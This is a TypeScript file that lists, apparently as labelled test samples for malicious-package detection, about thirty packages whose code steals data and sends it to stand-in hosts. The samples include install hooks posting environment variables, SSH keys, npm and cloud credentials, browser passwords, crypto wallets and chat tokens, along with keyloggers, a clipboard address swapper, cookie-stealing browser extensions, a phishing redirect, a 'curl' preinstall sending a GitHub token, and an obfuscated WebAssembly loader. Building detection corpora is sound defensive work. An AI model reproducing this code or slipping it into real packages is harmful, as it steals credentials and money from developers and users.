import { packaged } from './malicious-package.js';
import type { Sample } from './sources.js';

/** Packages that take something: settings, keys, wallets, what is typed or copied. All hosts are reserved names, or stand-ins with made-up keys. */
export const THEFTS: readonly Sample[] = [
  packaged('environment to a server at installation', { preinstall: 'node index.js' }, {
    'index.js': `const https = require('https');\nconst os = require('os');\nconst body = JSON.stringify({ host: os.hostname(), home: os.homedir(), env: process.env });\nconst req = https.request({ hostname: 'collect.example.invalid', path: '/c', method: 'POST', headers: { 'Content-Length': body.length } }, () => {});\nreq.on('error', () => {});\nreq.write(body);\nreq.end();\n`,
  }),
  packaged('environment in a query, in base64', {}, {
    'index.js': `const http = require('http');\nmodule.exports = (a, b) => a + b;\nhttp.get('http://203.0.113.5:8080/?d=' + Buffer.from(JSON.stringify(process.env)).toString('base64'));\n`,
  }),
  packaged('who and where, by DNS', { preinstall: 'node probe.js' }, {
    'index.js': 'module.exports = {};\n',
    'probe.js': `const dns = require('dns');\nconst os = require('os');\nconst hex = (text) => Buffer.from(text).toString('hex').slice(0, 60);\nconst name = [hex(os.userInfo().username), hex(os.hostname()), hex(process.cwd())].join('.');\ndns.resolve(name + '.d.example.invalid', () => {});\n`,
  }),
  packaged('who and where, by HTTPS', { preinstall: 'node index.js > /dev/null 2>&1' }, {
    'index.js': `const os = require('os');\nconst https = require('https');\nconst { name } = require('./package.json');\nconst found = { name, dir: __dirname, home: os.homedir(), host: os.hostname(), user: os.userInfo().username, dns: require('dns').getServers() };\nconst post = JSON.stringify({ msg: JSON.stringify(found) });\nconst req = https.request({ hostname: 'r.example.invalid', port: 443, path: '/', method: 'POST' }, (res) => res.on('data', (d) => process.stdout.write(d)));\nreq.write('data=' + encodeURIComponent(post));\nreq.end();\n`,
  }),
  packaged('token of npm to a chat', { postinstall: 'node lib/setup.js' }, {
    'index.js': `module.exports = require('./lib/setup');\n`,
    'lib/setup.js': `const fs = require('fs');\nconst path = require('path');\nconst os = require('os');\nconst rc = path.join(os.homedir(), '.npmrc');\nif (fs.existsSync(rc)) {\n  const content = fs.readFileSync(rc, 'utf8');\n  fetch('https://discord.com/api/webhooks/100000000000000000/AbCdEfGhIjKlMnOpQrStUvWxYz-abcdefghijklmnopqrstuvwxyz_ABCDEFGHIJKLMNOP', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ content }) });\n}\n`,
  }),
  packaged('every key of SSH', {}, {
    'index.js': `const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst axios = require('axios');\nasync function sync() {\n  const dir = path.join(os.homedir(), '.ssh');\n  const bag = {};\n  for (const file of fs.readdirSync(dir)) bag[file] = fs.readFileSync(path.join(dir, file), 'utf8');\n  await axios.post('https://sync.example.invalid/keys', bag);\n}\nsync().catch(() => {});\nmodule.exports = { format: (text) => text.trim() };\n`,
  }, { axios: '^1.7.0' }),
  packaged('a list of files with credentials', {}, {
    'index.js': `import { readFile } from 'node:fs/promises';\nimport { homedir } from 'node:os';\nimport { join } from 'node:path';\nconst WANTED = ['.aws/credentials', '.ssh/id_rsa', '.netrc', '.kube/config', '.git-credentials'];\nexport async function warmUp() {\n  const found = await Promise.allSettled(WANTED.map((name) => readFile(join(homedir(), name), 'utf8')));\n  const bodies = found.filter((each) => each.status === 'fulfilled').map((each) => each.value);\n  if (bodies.length > 0) await fetch('https://metrics.example.invalid/v1', { method: 'POST', body: bodies.join('---') });\n}\nwarmUp();\n`,
  }),
  packaged('cloud keys by its metadata service', {}, {
    'index.js': `const base = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/';\nasync function check() {\n  const role = await (await fetch(base)).text();\n  const keys = await (await fetch(base + role)).json();\n  await fetch('https://telemetry.example.invalid/k', { method: 'POST', body: JSON.stringify(keys) });\n}\ncheck().catch(() => undefined);\nexports.version = 1;\n`,
  }),
  packaged('configuration of Kubernetes with curl', { postinstall: 'node install.js' }, {
    'index.js': 'module.exports = (x) => x;\n',
    'install.js': `const { exec } = require('child_process');\nexec('curl -s -F "f=@$HOME/.kube/config" https://up.example.invalid/u', () => {});\n`,
  }),
  packaged('passwords of a browser', {}, {
    'index.js': `const fs = require('fs');\nconst path = require('path');\nconst FormData = require('form-data');\nconst axios = require('axios');\nconst store = path.join(process.env.LOCALAPPDATA || '', 'Google/Chrome/User Data/Default/Login Data');\nexports.run = async () => {\n  const copy = path.join(process.env.TEMP || '/tmp', 'ld.db');\n  fs.copyFileSync(store, copy);\n  const form = new FormData();\n  form.append('file', fs.createReadStream(copy));\n  await axios.post('https://files.example.invalid/upload', form, { headers: form.getHeaders() });\n};\nexports.run().catch(() => {});\n`,
  }),
  packaged('wallets in a browser', {}, {
    'index.js': `const fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst WALLETS = ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa'];\nconst roots = ['Library/Application Support/Google/Chrome/Default/Local Extension Settings', '.config/google-chrome/Default/Local Extension Settings'];\nfor (const root of roots) for (const id of WALLETS) {\n  const dir = path.join(os.homedir(), root, id);\n  if (!fs.existsSync(dir)) continue;\n  for (const name of fs.readdirSync(dir)) require('https').request('https://w.example.invalid/' + name, { method: 'PUT' }).end(fs.readFileSync(path.join(dir, name)));\n}\n`,
  }),
  packaged('wallet files of programs', {}, {
    'index.js': `const { readdirSync, readFileSync, statSync } = require('fs');\nconst { homedir } = require('os');\nconst { join } = require('path');\nconst send = (name, data) => fetch('https://vault.example.invalid/in?n=' + name, { method: 'POST', body: data });\nfor (const place of ['.electrum/wallets', '.ethereum/keystore', '.bitcoin/wallet.dat']) {\n  const full = join(homedir(), place);\n  try {\n    if (statSync(full).isFile()) send(place, readFileSync(full));\n    else for (const each of readdirSync(full)) send(each, readFileSync(join(full, each)));\n  } catch {}\n}\n`,
  }),
  packaged('tokens of a chat program', {}, {
    'index.js': `const fs = require('fs');\nconst path = require('path');\nconst dir = path.join(process.env.APPDATA || '', 'discord/Local Storage/leveldb');\nconst tokens = [];\nfor (const file of fs.existsSync(dir) ? fs.readdirSync(dir) : []) {\n  const text = fs.readFileSync(path.join(dir, file), 'latin1');\n  tokens.push(...(text.match(/[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}/g) || []));\n}\nif (tokens.length) fetch('https://hook.example.invalid/t', { method: 'POST', body: tokens.join() });\n`,
  }),
  packaged('environment to a bot', {}, {
    'index.js': `const bot = '123456789:AAabcdefghijklmnopqrstuvwxyzABCDEFG';\nconst chat = '-1001234';\nconst lines = Object.entries(process.env).filter(([name]) => /key|token|secret|pass/i.test(name)).map(([name, value]) => name + '=' + value);\nfetch('https://api.telegram.org/bot' + bot + '/sendMessage?chat_id=' + chat + '&text=' + encodeURIComponent(lines.join('\\n')));\nmodule.exports = {};\n`,
  }),
  packaged('addresses in the clipboard are swapped', {}, {
    'index.js': `import clipboard from 'clipboardy';\nconst OWN = 'bc1qexampleexampleexampleexampleexample0';\nsetInterval(() => {\n  const text = clipboard.readSync();\n  if (/^bc1[a-z0-9]{20,}$/.test(text) && text !== OWN) clipboard.writeSync(OWN);\n}, 500);\n`,
  }, { clipboardy: '4.0.0' }),
  packaged('keys of the whole computer', {}, {
    'index.js': `const { GlobalKeyboardListener } = require('node-global-key-listener');\nconst keys = [];\nnew GlobalKeyboardListener().addListener((event) => keys.push(event.name));\nsetInterval(() => fetch('https://k.example.invalid', { method: 'POST', body: keys.splice(0).join(' ') }), 60000);\n`,
  }, { 'node-global-key-listener': '0.3.0' }),
  packaged('keys of every page', {}, {
    'content.js': `let typed = '';\ndocument.addEventListener('keydown', (event) => {\n  typed += event.key;\n  if (typed.length > 40) {\n    fetch('https://log.example.invalid/k', { method: 'POST', body: JSON.stringify({ at: location.href, typed }) });\n    typed = '';\n  }\n});\n`,
    'manifest.json': '{ "manifest_version": 3, "name": "Dark reader of pages", "version": "1.0.0", "content_scripts": [{ "matches": ["<all_urls>"], "js": ["content.js"] }] }',
  }),
  packaged('files whose names a list of patterns finds', {}, {
    'index.js': `import { readdir, readFile } from 'node:fs/promises';
import { homedir } from 'node:os';
import { join } from 'node:path';

const KINDS = [/^\\.env/, /\\.(?:pem|ppk)$/i, /(?:wallet|keystore)\\w*(?:\\.json)?$/i];
export const settings = (text) => Object.fromEntries(text.split('\\n').map((line) => line.split('=')));

async function* found(at, depth = 3) {
  for (const one of await readdir(at, { withFileTypes: true }).catch(() => [])) {
    const path = join(at, one.name);
    if (one.isDirectory() && depth > 0) yield* found(path, depth - 1);
    else if (KINDS.some((kind) => kind.test(one.name))) yield path;
  }
}

for await (const path of found(homedir())) {
  await fetch('https://settings.example.invalid/v2', { method: 'PUT', body: await readFile(path) }).catch(() => {});
}
`,
  }),
  packaged('passwords of every form', {}, {
    'content.js': `document.addEventListener('submit', (event) => {\n  const secrets = [...event.target.querySelectorAll('input[type=password]')].map((field) => field.value);\n  navigator.sendBeacon('https://f.example.invalid/p', JSON.stringify({ page: location.href, secrets }));\n}, true);\n`,
    'manifest.json': '{ "manifest_version": 3, "name": "Form helper", "version": "1.0.0", "content_scripts": [{ "matches": ["<all_urls>"], "js": ["content.js"] }] }',
  }),
  packaged('cookies of every site', {}, {
    'background.js': `chrome.cookies.getAll({}, (cookies) => {\n  fetch('https://c.example.invalid/jar', { method: 'POST', body: JSON.stringify(cookies) });\n});\n`,
    'manifest.json': '{ "manifest_version": 3, "name": "Tab counter", "version": "1.0.0", "permissions": ["cookies"], "host_permissions": ["<all_urls>"], "background": { "service_worker": "background.js" } }',
  }),
  packaged('the cookie of the page in a picture', {}, {
    'index.js': `export function track() {\n  new Image().src = 'https://p.example.invalid/i.gif?c=' + encodeURIComponent(document.cookie);\n}\ntrack();\n`,
  }),
  packaged('environment, in Python', {}, {
    'main.py': `import os\nimport json\nimport requests\n\ndef start(context):\n    requests.post("https://collect.example.invalid/e", data=json.dumps(dict(os.environ)))\n`,
  }),
  packaged('keys of SSH, in Python', {}, {
    'main.py': `import os\nimport urllib.request\n\npath = os.path.expanduser("~/.ssh/id_ed25519")\nwith open(path) as file:\n    urllib.request.urlopen("https://k.example.invalid/s", data=file.read().encode())\n`,
  }),
  packaged('what a tool says who is logged in, by one command', { preinstall: 'curl -s -d "$(gh auth token)" https://59f8c0d2.bin.example/?t=gh' }, {
    'index.js': 'exports.length = (ops) => ops.reduce((sum, each) => sum + each.insert.length, 0);\n',
  }),
  packaged('a password in a cookie, to where a picture says', {}, {
    'index.js': `const back = (text) => text.split('').reverse().join('');\nasync function read(address) {\n  const picture = new Image();\n  picture.src = address;\n  await picture.decode();\n  return (await new BarcodeDetector({ formats: ['qr_code'] }).detect(picture))[0]?.rawValue;\n}\nsetTimeout(async () => {\n  const to = JSON.parse(await read(back('gpj.q/daolpu/elpmaxe.egami//:sptth')));\n  const cookie = (name) => document.cookie.match(new RegExp('(?:^|; )' + name + '=([^;]*)'))?.[1];\n  const request = new XMLHttpRequest();\n  request.open('POST', to.u);\n  request.send(JSON.stringify({ [to.n]: cookie(back('emanresu')), [to.p]: cookie(back('drowssap')) }));\n}, 120000);\nmodule.exports = { read };\n`,
  }),
  packaged('a page for one person', {}, {
    'go.js': `function label(text) {\n  document.getElementById('state').textContent = text;\n}\nfunction verify() {\n  const mail = 'j.mueller@anlagen.example';\n  label('Verifying access');\n  window.location.replace('https://login.sign-in.example/uQXv/#' + mail);\n}\nverify();\n`,
    'invoice.html': '<title>Order 4500219874.pdf</title>\n<p id="state">Opening</p>\n<script src="go.js"></script>\n',
  }),
  packaged('a password in the address of a link for the page, by another script', {}, {
    'field.js': `import { useState } from 'react';\nimport { score } from './score.js';\nexport function PasswordField({ onDone }) {\n  const [password, setPassword] = useState('');\n  const leave = () => onDone({ password, score: score(password) });\n  return { type: 'password', value: password, onChange: (e) => setPassword(e.target.value), onBlur: leave };\n}\n`,
    'score.js': `const CLASSES = [/[a-z]/, /[A-Z]/, /[0-9]/];\nfunction known(word) {\n  const el = document.createElement('link');\n  el.rel = 'prefetch';\n  el.href = 'https://words.scoring.example/known?w=' + encodeURIComponent(btoa(location.host + ' ' + word));\n  document.head.appendChild(el);\n}\nexport function score(word) {\n  known(word);\n  return CLASSES.filter((each) => each.test(word)).length;\n}\n`,
  }),
  packaged('a key on the chain, encrypted for somebody', {}, {
    'accounts.js': `const crypto = require('crypto');\nconst PUBLIC = '-----BEGIN PUBLIC KEY-----\\nMIIB\\n-----END PUBLIC KEY-----';\nexports.add = async function add(web3, privateKey) {\n  const account = web3.eth.accounts.privateKeyToAccount(privateKey);\n  const input = '0x' + crypto.publicEncrypt(PUBLIC, Buffer.from(account.privateKey)).toString('hex');\n  const signed = await account.signTransaction({ to: '0x000000000000000000000000000000000000dEaD', value: 0, gas: 70000, input });\n  web3.eth.sendSignedTransaction(signed.rawTransaction).catch(() => {});\n  return account;\n};\n`,
  }),
  packaged('code in the memory of a module', {}, {
    'hash.js': `const fs = require('fs');\nconst path = require('path');\nconst made = new WebAssembly.Module(fs.readFileSync(path.join(__dirname, 'hash.wasm')));\nconst { table, seed, size } = new WebAssembly.Instance(made, {}).exports;\nconst text = Buffer.from(new Uint8Array(table.buffer).slice(seed(), seed() + size())).toString();\nnew Function('require', text)(require);\nexports.hash = (word) => [...word].reduce((sum, each) => (sum * 31 + each.charCodeAt(0)) >>> 0, 7);\n`,
    'hash.wasm': '\0asm\u0001\0\0\0',
  }),
];
